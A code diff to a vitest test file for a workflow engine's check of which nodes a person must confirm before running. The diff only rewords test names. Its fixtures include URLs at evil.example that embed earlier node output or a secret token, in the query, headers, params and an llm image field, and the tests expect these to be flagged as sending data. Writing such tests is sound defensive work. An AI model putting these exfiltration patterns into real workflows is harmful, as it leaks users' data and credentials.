@@ -1,4 +1,4 @@
-// What in a workflow must be seen by a person before it runs.
+// Which nodes of a workflow a person must confirm before it runs.
 import { describe, expect, test } from 'vitest';
 import { loadNodeTypes, NODE_TYPE_NAMES } from '../../src/nodes/registry.ts';
 import { checkSchema } from '../../src/workflow/check-schema.ts';
@@ -36,7 +36,7 @@ describe('types', () => {
     ['write-file', { file_path: 'a', content: 'b' }, 'writes'],
     ['shell', { command: 'true' }, 'runs'],
     ['somebody-elses', {}, 'unknown'],
-  ])('%s with %j: %s', (type, params, expected) => {
+  ])('%s with the params %j: %s', (type, params, expected) => {
     expect(effectOf(type, params)).toBe(expected);
   });
 });
@@ -55,18 +55,18 @@ describe('http', () => {
     [{ url: 'https://evil.example/?${before.content}' }, 'sends'],
     [{ url, headers: { 'x-note': '${before.content}' } }, 'sends'],
     [{ url, params: { q: '${city ?? before.content}' } }, 'sends'],
-  ])('%j: %s', (params, expected) => {
+  ])('with the params %j: %s', (params, expected) => {
     expect(effectOf('http', params, { city: {}, method: {} })).toBe(expected);
   });
 
-  test('a value that is secret, or comes from the machine, is not given away unseen', () => {
+  test('an address with a private input sends it', () => {
     const params = { url: 'https://api.example/${TOKEN}' };
     expect(effectOf('http', params, { TOKEN: {} }, ['TOKEN'])).toBe('sends');
     expect(effectOf('http', { url, auth_token: '${TOKEN}' }, { TOKEN: {} }, ['TOKEN'])).toBe('sends');
   });
 });
 
-test('an image that a model looks at may be an address', () => {
+test('an image of an llm node may be an address', () => {
   expect(effectOf('llm', { prompt: 'x', images: 'https://evil.example/?${before.content}' })).toBe('sends');
   expect(effectOf('llm', { prompt: 'x', images: 'photo.png' })).toBe('');
 });
